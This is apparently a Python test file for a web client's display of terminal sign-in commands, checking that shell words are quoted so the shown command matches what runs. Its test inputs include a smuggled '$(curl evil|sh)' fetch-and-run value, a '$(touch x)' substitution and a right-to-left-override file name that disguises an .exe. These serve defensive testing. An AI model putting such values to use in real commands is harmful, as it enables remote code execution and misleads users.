"""The command a terminal sign-in shows: what shows is what runs, every word quoted, nothing unseen."""

from __future__ import annotations

import shlex
import subprocess

import pytest

from webclient.domain.sign_in import TerminalCommand
from webclient.views.shell_command import shell_word, shown_command


def test_plain_names_and_words_read_as_before() -> None:
    shown = shown_command(TerminalCommand(argv=("/usr/bin/agent", "--login"), env=(("API_KEY", "a b"),)))

    assert shown.text == "API_KEY='a b' /usr/bin/agent --login"
    assert (shown.odd_names, shown.left_out, shown.escaped) == ((), (), False)


def test_shell_code_a_right_to_left_override_and_an_equals_sign_in_names_are_quoted_marked_or_left_out() -> (
    None
):
    env = (("GOOD_NAME", "1"), ("$(curl evil|sh)", "x"), ("A\u202eB", "y"), ("A=B", "z"), ("N\0", "v"))
    argv = ("agent", "--to=invoice_\u202egnp.exe", "it's")

    shown = shown_command(TerminalCommand(argv=argv, env=env))

    assert shown.text == (
        "env GOOD_NAME=1 '$(curl evil|sh)=x' $'A\\u202eB=y' agent $'--to=invoice_\\u202egnp.exe' 'it'\"'\"'s'"
    )
    assert "\u202e" not in shown.text  # nothing in the line reads differently from what runs
    assert shown.odd_names == ("'$(curl evil|sh)'", "$'A\\u202eB'")
    assert shown.left_out == ("A=B", "$'N\\u0000'")
    assert shown.escaped


@pytest.mark.parametrize(
    "word",
    [
        "plain",
        "two words",
        "it's",
        "$(touch x)",
        "a\u202eb",
        "tab\there",
        "line\nbreak",
        "zw\u200bj",
        "\U000e0041",
    ],
)
def test_bash_reads_each_shown_word_back_as_the_same_text(word: str) -> None:
    shown = shell_word(word)
    assert all(c.isprintable() for c in shown)
    out = subprocess.run(["bash", "-c", f"printf %s {shown}"], capture_output=True, check=True).stdout
    assert out.decode() == word
    if "$'" not in shown:
        assert shlex.split(shown) == [word]
